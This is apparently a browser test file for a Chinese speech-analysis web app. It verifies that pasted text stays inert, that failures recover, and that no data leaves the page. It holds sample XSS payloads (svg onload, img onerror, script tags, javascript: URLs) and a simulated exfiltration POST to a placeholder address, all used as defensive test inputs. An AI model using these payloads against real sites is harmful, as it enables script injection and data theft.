// The page in real headless Chromium under attack and under watch: XSS vectors pasted as speech
// text reach every place a result is shown and stay text (with the page's CSP, and with the CSP
// switched off so the rendering alone is on trial); a panic forced inside the wasm is an error on
// the page, which keeps the text and analyses again; and from load to the end of several analyses
// no request leaves for anything but the page's own files, and nothing is stored unasked.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { start, root } from './harness.mjs';
import { serve } from '../../scripts/serve.mjs';
import { checkAnalysis } from '../support/invariants.mjs';

const dist = join(root, 'dist');

let env;
before(async () => { env = await start(); });
after(async () => { await env?.close(); });

/** Waits until the status line reports a finished or failed analysis, and says which. */
async function settled(page) {
  const handle = await page.waitForFunction(() => {
    const status = document.querySelector('speech-lens').shadowRoot.getElementById('status');
    if (/完成|Analysed|请粘贴|Paste or open/.test(status.textContent)) return 'done';
    return status.classList.contains('error') ? 'failed' : false;
  }, null, { timeout: 60000 });
  return handle.jsonValue();
}

/** Clears the status line, runs `action` (which starts an analysis) and waits for its outcome. */
async function analysed(page, action) {
  await page.$eval('#status', (el) => { el.textContent = ''; el.classList.remove('error'); });
  await action();
  return settled(page);
}

/** Replaces the speech text as a paste would and analyses it now. */
const paste = (page, text) => analysed(page, async () => {
  await page.$eval('#input', (el, t) => { el.value = t; }, text);
  await page.click('#analyze');
});

/** A fresh page with scripts' side effects recorded: dialogs, page errors, CSP violations. */
async function openPage({ bypassCSP = false, url = env.url } = {}) {
  const page = await env.browser.newPage();
  const seen = { dialogs: [], errors: [] };
  page.on('dialog', (d) => { seen.dialogs.push(d.message()); d.dismiss(); });
  page.on('pageerror', (e) => seen.errors.push(e.message));
  if (bypassCSP) await (await page.context().newCDPSession(page)).send('Page.setBypassCSP', { enabled: true });
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(url);
  assert.equal(await settled(page), 'done', 'the sample speech analyses on load');
  return { page, seen };
}

// ---- XSS ----------------------------------------------------------------------------------

/** Every vector sets `__xss` (or opens a dialog) if it ever runs. */
const WORD = '<svg/onload=__xss=1>'; // 20 characters: the longest word the word box takes
const TITLE = '<svg onload=__xss=1>关于县域经济的讲话';
const HEADING = '<img src=x onerror=__xss=1>要推动县域经济高质量发展';
const SLOGANS = ['<i>县域</i>', '"><b>数商兴农', '关于<img src=x onerror=alert(1)>的决定', '"><svg/onload=__xss=1>纲要'];
const VECTORS = [
  TITLE,
  '同志们：',
  `第一，${HEADING}。我们要坚持“${SLOGANS[0]}”，坚持“${SLOGANS[1]}”。`,
  `第二，</textarea><script>__xss=1</script>要学习《${SLOGANS[2]}》和《${SLOGANS[3]}》。`,
  '第三，要点击<a href="javascript:__xss=1">链接</a>和<iframe src="javascript:alert(1)"></iframe>，&lt;b&gt;实体&amp;不解码&#60;script&#62;。',
  `“${SLOGANS[0]}”是重点，“${SLOGANS[1]}”也是。还有${WORD}和${WORD}。<style>*{display:none}</style>`,
  '谢谢大家！',
].join('\n');

/** Markup only a vector could have put in the page: handlers, javascript: URLs, stray tags. */
const injected = (page) => page.evaluate(() => {
  const found = [];
  const roots = [document, ...[...document.querySelectorAll('*')].filter((e) => e.shadowRoot).map((e) => e.shadowRoot)];
  for (const rootNode of roots) {
    for (const el of rootNode.querySelectorAll('*')) {
      for (const { name, value } of el.attributes) {
        if (/^on/i.test(name) || /^\s*javascript:/i.test(value)) found.push(`${el.localName}[${name}=${value}]`);
      }
    }
    for (const el of rootNode.querySelectorAll('img[src="x"], iframe, object, embed, i, b, style, script:not([src])')) {
      found.push(el.outerHTML.slice(0, 80));
    }
  }
  return found;
});

/** The visible text of every element matching `selector`. */
const texts = (page, selector) => page.$$eval(selector, (els) => els.map((e) => e.textContent));

for (const bypassCSP of [false, true]) {
  test(`XSS vectors pasted as speech are shown literally everywhere and never run (${bypassCSP ? 'CSP off: the rendering alone' : 'with the page\'s CSP'})`, async () => {
    const { page, seen } = await openPage({ bypassCSP });
    assert.equal(await paste(page, VECTORS), 'done');
    // The word box: the vector becomes a term of the table, then its concordance.
    await analysed(page, async () => {
      await page.fill('#word-input', WORD);
      await page.press('#word-input', 'Enter');
    });

    // The text view holds the text exactly, as text.
    assert.equal(await page.$eval('#text', (el) => el.textContent), VECTORS);
    assert.equal(await page.$eval('#input', (el) => el.value), VECTORS);
    // Terms: table, chart and cloud.
    assert.ok((await texts(page, '#terms button.term')).includes(WORD), 'the word is a term of the table');
    for (const panel of ['#chart', '#cloud']) assert.ok((await page.$eval(panel, (el) => el.textContent)).includes(WORD), panel);
    // KWIC: a click on the term shows its lines, the vector in the middle.
    await page.click(`#terms button.term >> text="${WORD}"`);
    await page.waitForFunction(() => !document.querySelector('speech-lens').shadowRoot.getElementById('kwic-box').hidden);
    const kwic = await page.$eval('#kwic', (el) => el.textContent);
    assert.equal(kwic.split(WORD).length - 1 >= 2, true, kwic);
    // Slogans and outline: quoted phrases, titles, headings, the speech's title.
    await page.click('#tab-slogans');
    const slogans = await texts(page, '#slogans button.slogan');
    for (const s of SLOGANS) assert.ok(slogans.includes(s), `slogan ${s} in ${slogans.join(' | ')}`);
    await page.click('#tab-outline');
    const outline = await page.$eval('#outline', (el) => el.textContent);
    assert.ok(outline.includes(HEADING), 'the heading, literally');
    assert.ok(outline.includes(TITLE), 'the speech title, literally');
    // The draft check: its excerpts and messages quote the text as text; its marks leave the text view's text as it was.
    await page.click('#tab-check');
    await page.waitForSelector('#findings .check-counts');
    assert.equal(await page.$eval('#text', (el) => el.textContent), VECTORS);
    // The CSV export: the vector is one cell, as text.
    await page.click('#tab-terms');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
    const csv = readFileSync(await download.path(), 'utf8');
    assert.ok(csv.split('\r\n').some((row) => row.startsWith(`${WORD},`)), csv.slice(0, 200));
    // The page title is the page's own.
    assert.equal(await page.title(), 'speechlens · 讲话透镜');

    assert.deepEqual(await injected(page), [], 'no markup from the text');
    assert.equal(await page.evaluate(() => window.__xss), undefined, 'no vector ran');
    assert.deepEqual(seen.dialogs, []);
    assert.deepEqual(seen.errors, []);
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing even tried to run against the CSP');
    if (bypassCSP) {
      // The checks above would have caught the text parsed as HTML: here is what that does.
      await page.evaluate((v) => document.body.append(Object.assign(document.createElement('div'), { innerHTML: v })), VECTORS);
      await page.waitForFunction(() => window.__xss === 1);
      assert.ok((await injected(page)).length >= 5);
    }
    await page.close();
  });
}

test('XSS vectors in the <speech-lens> widget stay text in its shadow root (CSP off)', async () => {
  const page = await env.browser.newPage();
  const seen = { dialogs: [], errors: [] };
  page.on('dialog', (d) => { seen.dialogs.push(d.message()); d.dismiss(); });
  page.on('pageerror', (e) => seen.errors.push(e.message));
  await (await page.context().newCDPSession(page)).send('Page.setBypassCSP', { enabled: true });
  await page.goto(env.url + 'widget/demo.html');
  await page.waitForFunction(() => document.querySelector('speech-lens')?.result, null, { timeout: 60000 });
  const result = await page.evaluate((text) => new Promise((resolve, reject) => {
    const el = document.querySelector('speech-lens');
    el.addEventListener('speechlens-analyzed', (e) => resolve(e.detail), { once: true });
    el.addEventListener('speechlens-error', (e) => reject(new Error(e.detail.error.message)), { once: true });
    el.analyze(text);
  }), VECTORS);
  checkAnalysis(VECTORS, result);
  const shown = await page.$eval('speech-lens', (el) => ({
    text: el.shadowRoot.getElementById('text')?.textContent,
    slogans: [...el.shadowRoot.querySelectorAll('button.slogan')].map((b) => b.textContent),
    headings: [...el.shadowRoot.querySelectorAll('.heading')].map((h) => h.textContent),
  }));
  assert.equal(shown.text, VECTORS);
  for (const s of SLOGANS) assert.ok(shown.slogans.includes(s), s);
  assert.ok(shown.headings.includes(HEADING));
  assert.deepEqual(await injected(page), []);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.deepEqual(seen.dialogs, []);
  assert.deepEqual(seen.errors, []);
  await page.close();
});

// ---- recovery -----------------------------------------------------------------------------

test('a panic inside the wasm (forced through the test hook) is an error on the page, the text is kept, and the next analysis works', async () => {
  const { page, seen } = await openPage();
  const text = '同志们：\n第一，要把恢复能力放在首位。\n第二，要坚持“失败可恢复”。';
  assert.equal(await paste(page, text), 'done');
  // The analyses run in the engine's worker: arm the hook there, where the wasm runs.
  const workers = page.workers();
  assert.equal(workers.length, 1, 'one analysis worker');
  await workers[0].evaluate(() => { self.__speechlensTestPanic = true; });

  const edited = text + '\n第三，要在失败之后继续工作。';
  assert.equal(await paste(page, edited), 'failed', 'the forced panic fails this analysis');
  const status = await page.$eval('#status', (el) => el.textContent);
  assert.match(status, /失败|failed/);
  assert.equal(await page.$eval('#input', (el) => el.value), edited, 'the text is kept');

  assert.equal(await analysed(page, () => page.click('#analyze')), 'done', 'the next analysis works');
  assert.equal(await page.$eval('#text', (el) => el.textContent), edited);
  await page.click('#tab-outline');
  const headings = await texts(page, '#outline .heading');
  assert.deepEqual(headings, ['要把恢复能力放在首位', '要坚持“失败可恢复”', '要在失败之后继续工作']);
  assert.deepEqual(seen.errors, [], 'nothing escaped to the page as an uncaught error');
  await page.close();
});

test('a text over the limit is a clear error on the page, the text is kept, and the next analysis works', async () => {
  const { page, seen } = await openPage();
  const length = 16 * 1024 * 1024 + 1;
  await page.$eval('#status', (el) => { el.textContent = ''; });
  await page.$eval('#input', (el, n) => { el.value = '要'.repeat(n); }, length);
  await page.click('#analyze');
  assert.equal(await settled(page), 'failed');
  assert.match(await page.$eval('#status', (el) => el.textContent), /文本太长|too long/);
  assert.equal(await page.$eval('#input', (el) => el.value.length), length, 'the text is kept');
  assert.equal(await paste(page, '同志们：\n第一，要推动发展。\n第二，要改善民生。'), 'done');
  assert.deepEqual(seen.errors, []);
  await page.close();
});

// ---- privacy ------------------------------------------------------------------------------

/** The CSP of an HTML file as { directive: [sources] }. */
function policyOf(html) {
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
  assert.ok(meta, 'a CSP meta tag');
  return Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
}

/** What a strict policy must hold: nothing fetched or run from elsewhere, no inline script. */
function assertStrict(csp, { connect }) {
  assert.ok(['\'self\'', '\'none\''].includes(csp['default-src']?.[0]) && csp['default-src'].length === 1, 'default-src');
  assert.deepEqual(csp['connect-src'], [connect], 'connect-src');
  assert.deepEqual(csp['object-src'], ['\'none\'']);
  assert.deepEqual(csp['base-uri'], ['\'none\'']);
  assert.deepEqual(csp['form-action'], ['\'none\'']);
  for (const source of csp['script-src']) assert.match(source, /^'(self|wasm-unsafe-eval|sha256-[A-Za-z0-9+/=]+)'$/, 'script-src');
  for (const [directive, sources] of Object.entries(csp)) {
    for (const source of sources) {
      assert.doesNotMatch(source, /^(\*|https?:|data:|'unsafe-eval'|'strict-dynamic')$|\/\//, `${directive} ${source}`);
      if (directive !== 'style-src-attr') assert.notEqual(source, '\'unsafe-inline\'', `${directive} ${source}`);
    }
  }
}

test('the standalone pages ship a strict CSP, and the browser enforces it', async () => {
  assertStrict(policyOf(readFileSync(join(dist, 'index.html'), 'utf8')), { connect: '\'self\'' });
  assertStrict(policyOf(readFileSync(join(dist, 'speechlens.html'), 'utf8')), { connect: '\'none\'' });
  const { page } = await openPage();
  // A script of the page that tried to send the text away would be stopped before any request.
  const attempt = await page.evaluate(() => fetch('http://192.0.2.1/collect', { method: 'POST', body: 'text' }).then(() => 'sent', () => 'blocked'));
  assert.equal(attempt, 'blocked');
  assert.ok((await page.evaluate(() => window.__violations)).some((v) => v.startsWith('connect-src http://192.0.2.1')));
  await page.close();
});

test('from load to the end of several analyses, only the page\'s own files are requested and nothing is stored unasked', async () => {
  const server = await serve(dist);
  const served = [];
  server.on('request', (req) => served.push(req.url));
  const origin = `http://127.0.0.1:${server.address().port}`;
  const seenByBrowser = [];
  const onRequest = (r) => seenByBrowser.push(r.url());
  env.browser.on('request', onRequest);
  const sockets = [];
  try {
    const { page, seen } = await openPage({ url: origin + '/' });
    page.on('websocket', (w) => sockets.push(w.url()));
    const sample = await page.$eval('#input', (el) => el.value);
    // Several analyses, as a user works: a new text, options, a term's lines, the language, exports.
    assert.equal(await paste(page, sample.replace(/县域/g, '城乡')), 'done');
    assert.equal(await analysed(page, () => page.selectOption('#pos', 'nouns')), 'done');
    assert.equal(await analysed(page, () => page.check('#singles')), 'done');
    assert.equal(await analysed(page, () => page.check('#keep-removed')), 'done');
    await page.click('#terms button.term');
    await page.waitForFunction(() => !document.querySelector('speech-lens').shadowRoot.getElementById('kwic-box').hidden);
    await page.click('#lang');
    await Promise.all([page.waitForEvent('download'), page.click('#csv')]);
    await Promise.all([page.waitForEvent('download'), page.click('#json')]);
    assert.equal(await paste(page, sample), 'done');

    const stored = await page.evaluate(async () => ({
      local: Object.keys(localStorage), session: Object.keys(sessionStorage), cookie: document.cookie,
      indexedDB: (await indexedDB.databases()).map((d) => d.name), caches: await caches.keys(),
      serviceWorkers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    assert.deepEqual(stored, { local: [], session: [], cookie: '', indexedDB: [], caches: [], serviceWorkers: 0 });
    // Asked to remember, the page keeps the text and the user's words in this browser's localStorage only,
    // and forgets them when asked.
    await page.check('#remember');
    assert.deepEqual(await page.evaluate(() => Object.keys(localStorage).sort()), ['speechlens:text', 'speechlens:words']);
    await page.uncheck('#remember');
    assert.deepEqual(await page.evaluate(() => Object.keys(localStorage)), []);
    assert.deepEqual(seen.errors, []);
    await page.close();
  } finally {
    env.browser.off('request', onRequest);
    server.close();
  }
  const own = (url) => {
    const { origin: from, pathname } = new URL(url);
    // Chromium asks the page's own server for an icon the page does not name; it carries nothing of the page.
    if (from === origin && pathname === '/favicon.ico') return true;
    const file = join(dist, decodeURIComponent(pathname).replace(/\/$/, '/index.html'));
    return from === origin && file.startsWith(dist) && existsSync(file) && statSync(file).isFile();
  };
  // Downloads are blob: URLs the page made from the result, never fetched from anywhere.
  const requested = seenByBrowser.filter((url) => !url.startsWith('blob:' + origin + '/'));
  assert.deepEqual(requested.filter((url) => !own(url)), [], 'requests for anything but the page\'s own files');
  assert.deepEqual(served.filter((path) => !own(origin + path)), [], 'the server saw only requests for its files');
  assert.ok(served.includes('/speechlens_bg.wasm') && served.includes('/worker.js'), served.join(' '));
  assert.deepEqual(sockets, []);
});
